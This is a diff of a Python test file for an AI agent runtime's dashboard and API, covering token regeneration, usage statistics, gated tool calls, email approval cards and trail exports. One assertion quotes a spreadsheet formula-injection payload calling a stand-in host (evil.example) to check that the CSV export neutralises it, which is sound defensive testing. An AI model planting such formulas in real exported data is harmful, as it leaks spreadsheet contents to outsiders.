@@ -194,6 +194,42 @@ def test_tokens_create_list_revoke(d: BrainDaemon) -> None:
         refused(c.get("/api/v1/overview"), 401, "unauthorized")
 
 
+def test_a_token_is_regenerated_in_one_step(d: BrainDaemon) -> None:
+    """The seed's MCP tab: retrieve or regenerate (issue 34): a new secret, the old one
+    refused at once, the same token (id and scope), in the REST API, the page and the CLI."""
+    from chalie.tokens import TokenStore
+
+    def token_id() -> str:
+        with TokenStore(d.home / "chalie.db") as store:
+            return next(t.id for t in store.list() if t.name == "agent-r" and t.active)
+
+    with d.client() as c:
+        made = ok(c.post("/api/v1/tokens", json={"name": "agent-r"}), api.CreatedToken)
+        first = token_id()
+        again = ok(c.post("/api/v1/tokens/agent-r/regenerate"), api.CreatedToken)
+        assert again.secret != made.secret and again.secret in again.configs.cursor
+        assert again.token.scope == made.token.scope == "agent" and token_id() == first
+        refused(c.post("/api/v1/tokens/nobody/regenerate"), 404, "not-found")
+    with d.client(made.secret) as c:
+        refused(c.get("/api/v1/overview"), 401, "unauthorized")
+    with d.client(None) as c:
+        assert _sign_in(d, c, d.token).status_code == 303
+        token = _csrf(c.get("/brain/mcp_server").text)
+        page = c.post(
+            "/brain/act/token_regenerate", data={"path.name": "agent-r", "csrf": token}
+        ).text
+        assert "Token agent-r regenerated: the old secret no longer works" in page
+        shown = re.search(r'id="secret" readonly value="([^"]+)"', page)
+        assert shown is not None and shown.group(1) not in (made.secret, again.secret)
+    from click.testing import CliRunner
+
+    from chalie_app.cli import cli
+
+    done = CliRunner().invoke(cli, ["--home", str(d.home), "token", "regenerate", "agent-r"])
+    assert done.exit_code == 0 and done.stdout.strip().startswith("chalie_")
+    assert shown.group(1) != done.stdout.strip()
+
+
 def test_mcp_server_view(d: BrainDaemon) -> None:
     with d.client() as c:
         view = ok(c.get("/api/v1/mcp-server"), api.McpServerView)
@@ -211,6 +247,147 @@ def test_approvals_pending_answer_and_unknown(d: BrainDaemon) -> None:
             "invalid-args",
         )
         assert isinstance(ok(c.get("/api/v1/approvals/history"), list[api.HistoryRow]), list)
+
+
+def test_usage_per_tool_over_the_last_hour_and_day_from_the_trail(d: BrainDaemon) -> None:
+    from chalie.messages import ToolCall, TurnContext
+
+    ctx = TurnContext(
+        conversation_id="c-usage", turn_id="t-usage", channel="chat", scope="unrestricted"
+    )
+    for i in range(3):
+        call = ToolCall(
+            call_id=f"usage-{i}",
+            tool="find_tools",
+            arguments={"query": ["clock"], "act_summary": "finding"},
+            context=ctx,
+        )
+        assert d.rt.dispatch(call).result(30).status == "success"
+    with d.client() as c:
+        hour = ok(c.get("/api/v1/usage"), api.UsageView)
+        (found,) = [u for u in hour.tools if u.name == "find_tools"]
+        assert found.calls >= 3 and found.p50_ms is not None and found.p95_ms is not None
+        assert found.p50_ms <= found.p95_ms and 0 <= found.error_rate <= 1
+        day = ok(c.get("/api/v1/usage?window=day"), api.UsageView)
+        assert day.window == "day" and day.since < hour.since
+        refused(c.get("/api/v1/usage?window=week"), 400, "invalid-args")
+    with d.client(None) as c:
+        assert _sign_in(d, c, d.token).status_code == 303
+        page = c.get("/brain/trail?window=day").text
+        usage = page.split('id="usage-h"', 1)[1].split("</section>", 1)[0]
+        assert "Usage over the last day" in usage and ">find_tools</th>" in usage
+
+
+def test_any_tool_is_called_from_a_form_made_from_its_schema_through_the_gate(
+    d: BrainDaemon,
+) -> None:
+    """Issue 34 (what MCP Inspector and ContextForge offer): call any tool from the page,
+    as the owner on chat, through the gate; the answer and the trail row are shown."""
+    policy = d.rt.child("policy", PolicyActor).within(5)
+    policy.call(PolicyActor.set, "chat", "calculator", "allow")
+    with d.client() as c:
+        tools = ok(c.get("/api/v1/tools"), list[api.ToolInfo])
+        names = {t.name for t in tools}
+        assert "calculator" in names and "find_tools" not in names  # internal: the model's
+        done = ok(
+            c.post("/api/v1/tools/calculator/call", json={"arguments": {"expression": "6*7"}}),
+            api.ToolCallResult,
+        )
+        assert (
+            done.state == "done"
+            and done.status == "success"
+            and '"result":"42"' in (done.envelope.replace(" ", ""))
+        )
+        assert done.trail is not None and done.trail.tool == "calculator"
+        assert done.trail.channel == "chat" and done.trail.decision == "allow"
+        refused(c.post("/api/v1/tools/find_tools/call", json={}), 404, "not-found")
+        refused(c.post("/api/v1/tools/nope/call", json={}), 404, "not-found")
+        # Asked by the gate: the call waits in Approvals, the page is told so.
+        policy.call(PolicyActor.set, "chat", "calculator", "ask")
+        started = time.monotonic()
+        waiting = ok(
+            c.post("/api/v1/tools/calculator/call", json={"arguments": {"expression": "1"}}),
+            api.ToolCallResult,
+        )
+        assert waiting.state == "waiting" and time.monotonic() - started < 60
+        (asked,) = [
+            a
+            for a in ok(c.get("/api/v1/approvals"), list[api.Approval])
+            if a.conversation_id == waiting.conversation_id
+        ]
+        ok(
+            c.post(f"/api/v1/approvals/{asked.request_id}/answer", json={"answer": "deny"}),
+            api.Answered,
+        )
+    policy.call(PolicyActor.set, "chat", "calculator", "allow")
+    with d.client(None) as c:
+        assert _sign_in(d, c, d.token).status_code == 303
+        form = c.get("/brain/tools?tool=calculator").text
+        assert 'name="arguments.expression"' in form and "(required)" in form
+        answer = c.post(
+            "/brain/act/tool_call",
+            data={
+                "csrf": _csrf(form),
+                "back": "tools?tool=calculator",
+                "path.name": "calculator",
+                "arguments.expression": "2+2",
+            },
+        )
+        assert answer.status_code == 200, answer.text[:500]
+        assert "Answer: success" in answer.text and "Trail row" in answer.text
+        assert 'name="arguments.expression"' in answer.text  # the form is still there
+    policy.call(PolicyActor.reset, channel="chat", permission="calculator")
+
+
+def test_a_send_beyond_chalie_shows_its_reach_first_and_only_its_given_params(
+    d: BrainDaemon,
+) -> None:
+    """Issue 34: the card showed all 25 email parameters, nulls included, and "Asked by:
+    unknown" for a request the gate had written "the owner, on the chat channel"."""
+    from chalie.messages import ToolCall, TurnContext
+
+    ctx = TurnContext(
+        conversation_id="c-reach", turn_id="t-reach", channel="chat", scope="unrestricted"
+    )
+    given = {"action": "send", "to": ["ann@example.com"], "subject": "Dinner", "body": "8?"}
+    call = ToolCall(
+        call_id="call-reach", tool="email", arguments={**given, "act_summary": "x"}, context=ctx
+    )
+    outcome = d.rt.dispatch(call)
+    policy = d.rt.child("policy", PolicyActor).within(5)
+    (request,) = wait_until(
+        lambda: [r for r in policy.call(PolicyActor.pending) if r.conversation_id == "c-reach"],
+        what="the email.send request",
+    )
+    reach = "sends mail to ann@example.com; subject 'Dinner'; body '8?'"
+    with d.client() as c:
+        (mine,) = [
+            a
+            for a in ok(c.get("/api/v1/approvals"), list[api.Approval])
+            if a.conversation_id == "c-reach"
+        ]
+        assert mine.reach == reach and mine.params == given
+        assert mine.asked_by == request.asked_by != ""
+    with d.client(None) as c:
+        assert _sign_in(d, c, d.token).status_code == 303
+        page = c.get("/brain/approvals").text
+        card = page[page.index('id="req-' + mine.request_id) :]
+        card = card[: card.index("</article>")]
+        assert card.index("This reaches beyond Chalie:") < card.index("Asked by")
+        assert "ann@example.com" in card and "null" not in card and "unknown" not in card
+    with d.client() as c:
+        path = f"/api/v1/approvals/{mine.request_id}/answer"
+        ok(c.post(path, json={"answer": "deny"}), api.Answered)
+    assert outcome.result(10).code == "permission-denied"
+    # The answered list says who decided (it had no "decided by").
+    with d.client() as c:
+        history = ok(c.get("/api/v1/approvals/history"), list[api.HistoryRow])
+        (row,) = [h for h in history if h.conversation_id == "c-reach"]
+        assert (row.decision, row.decided_by) == ("deny", "first")
+    with d.client(None) as c:
+        assert _sign_in(d, c, d.token).status_code == 303
+        answered = c.get("/brain/approvals").text.split('id="history-h"', 1)[1]
+        assert '<th scope="col">Decided by</th>' in answered and "<td>first</td>" in answered
 
 
 def test_the_trail_filters_by_principal_through_rest_and_export(d: BrainDaemon) -> None:
@@ -529,6 +706,42 @@ def test_remote_servers_add_tools_and_remove(d: BrainDaemon) -> None:
                 c.post("/api/v1/mcp/servers/fx/approve", json={"tool": "echo"}), 409, "mcp-admin"
             )
             refused(c.get("/api/v1/mcp/servers/nosuch/tools"), 404, "mcp-admin")
+            # Issue 34: a remote server's notifications and log lines, in its log.
+            from chalie.messages import ToolCall, TurnContext
+
+            wait_until(  # re-enabled just above: connected again first
+                lambda: any(
+                    r.name == "fx" and r.status == "online"
+                    for r in ok(c.get("/api/v1/mcp/servers"), list[api.RemoteView])
+                ),
+                30,
+                "fx online again",
+            )
+
+            d.rt.child("policy", PolicyActor).within(5).call(
+                PolicyActor.set, "chat", "_mcp_fx_grow", "allow"
+            )
+            ctx = TurnContext(
+                conversation_id="c-grow", turn_id="t-grow", channel="chat", scope="unrestricted"
+            )
+            grow = ToolCall(
+                call_id="grow-1",
+                tool="_mcp_fx_grow",
+                arguments={"count": 1, "act_summary": "g"},
+                context=ctx,
+            )
+            grown = d.rt.dispatch(grow).result(30)
+            assert grown.status == "success", grown.envelope
+            noted = "notification notifications/tools/list_changed"
+
+            def logged() -> api.RemoteLog | None:
+                found = ok(c.get("/api/v1/mcp/servers/fx/log?lines=50"), api.RemoteLog)
+                return found if any(noted in line for line in found.lines) else None
+
+            log = wait_until(logged, 30, "the list_changed notification in fx's log")
+            assert log.name == "fx" and len(log.lines) <= 50
+            refused(c.get("/api/v1/mcp/servers/nosuch/log"), 404, "mcp-admin")
+            refused(c.get("/api/v1/mcp/servers/fx/log?lines=0"), 400, "invalid-args")
             imported = ok(
                 c.post(
                     "/api/v1/mcp/import",
@@ -896,6 +1109,11 @@ def test_a_conversation_is_listed_read_and_deleted(d: BrainDaemon) -> None:
             if frame["type"] == "turn_finished":
                 break
     cid = frame["conversation_id"]
+    with d.client(None) as c:  # issue 34: the page read `content`, the API sends `text`
+        assert _sign_in(d, c, d.token).status_code == 303
+        page = c.get(f"/brain/conversations?id={cid}").text
+        assert '<pre class="text">hi there</pre>' in page
+        assert '<pre class="text">Hello from the script.</pre>' in page
     with d.client() as c:
         rows = ok(c.get("/api/v1/conversations"), list[api.ConversationRow])
         assert cid in {r.id for r in rows}
@@ -985,3 +1203,69 @@ def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(d: BrainDaemon
     summary = row[head.index("act_summary")]
     assert summary == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
+
+
+def test_the_dashboards_defects_a_new_user_met(d: BrainDaemon) -> None:
+    """Issue 34: the trail's exports answered the signed-in browser with 401, its time
+    filters took unix times, the Workers panel was a raw JSON dump, and the discovery form
+    cleared its inputs."""
+    import html
+
+    with d.client(None) as c:
+        refused_page = c.get("/brain/download/trail_export?format=csv")
+        assert refused_page.status_code == 303  # not signed in: to the login page
+        assert _sign_in(d, c, d.token).status_code == 303
+        trail = c.get("/brain/trail").text
+        links = re.findall(r'href="(/brain/download/trail_export\?[^"]+)"', trail)
+        assert len(links) == 2
+        for link in links:
+            got = c.get(html.unescape(link))
+            assert got.status_code == 200, got.text[:300]
+            assert got.headers["content-disposition"].startswith("attachment")
+        csv = c.get("/brain/download/trail_export?format=csv")
+        assert csv.headers["content-type"].startswith("text/csv")
+        assert csv.text.splitlines()[0].startswith("id,")
+        assert c.get("/brain/download/trail").status_code == 404  # not a download
+        assert c.get("/brain/download/nope").status_code == 404
+        # A date and time, as the form's datetime-local input sends it, shown back.
+        since = c.get("/brain/trail?since=2000-01-02T03:04:05").text
+        assert 'value="2000-01-02T03:04:05"' in since and 'type="datetime-local"' in since
+        assert "unix time" not in since
+        bad = c.get("/brain/trail?since=yesterday").text
+        assert "since: &#39;yesterday&#39; is not a date and time" in bad
+        overview = c.get("/brain/overview").text
+        workers = overview.split('id="workers-h"', 1)[1].split("</section>", 1)[0]
+        assert '<th scope="col">Slot</th>' in workers and 'class="json"' not in workers
+        assert ".sock" not in workers and "ipc://" not in workers
+        token = _csrf(c.get("/brain/discovery").text)
+        done = c.post(
+            "/brain/act/discovery_try",
+            data={"csrf": token, "queries[]": ["what time is it", "15 percent of 240"]},
+        )
+        assert done.status_code == 200, done.text[:300]
+        assert 'value="what time is it"' in done.text and 'value="15 percent of 240"' in done.text
+
+
+def test_internal_rows_are_hidden_from_the_policy_surface_with_a_way_to_show_them(
+    d: BrainDaemon,
+) -> None:
+    policy = d.rt.child("policy", PolicyActor).within(5)
+    policy.call(PolicyActor.set, "subconscious", "find_skills", "internal")
+    with d.client() as c:
+        everything = ok(c.get("/api/v1/policy?internal=true"), api.PolicyPage)
+        internal = [r for r in everything.rows if r.decision == "internal"]
+        assert internal, "a runtime's own tool has an internal row"
+        default = ok(c.get("/api/v1/policy"), api.PolicyPage)
+        assert all(r.decision != "internal" for r in default.rows)
+        assert default.hidden_internal == len(internal)
+        assert len(default.rows) + len(internal) == len(everything.rows)
+        asked = ok(c.get("/api/v1/policy?setting=internal"), api.PolicyPage)
+        assert len(asked.rows) == len(internal)
+    with d.client(None) as c:
+        assert _sign_in(d, c, d.token).status_code == 303
+        page = c.get("/brain/policy").text
+        assert f"{len(internal)} internal rows" in page and "internal=true" in page
+        shown = c.get("/brain/policy?internal=true").text
+        assert "internal rows" not in shown.split('id="policy-results"', 1)[1]
+        assert internal[0].permission in shown
+    policy.call(PolicyActor.reset, channel="subconscious", permission="find_skills")
